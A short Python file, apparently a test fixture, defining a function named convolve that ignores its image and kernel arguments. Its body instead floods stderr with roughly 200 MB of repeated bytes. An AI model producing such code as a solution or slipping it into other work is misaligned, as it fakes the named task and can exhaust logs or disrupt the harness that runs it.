import os


def convolve(image, kernel):
    for _ in range(3200):
        os.write(2, b"x" * (1 << 16))
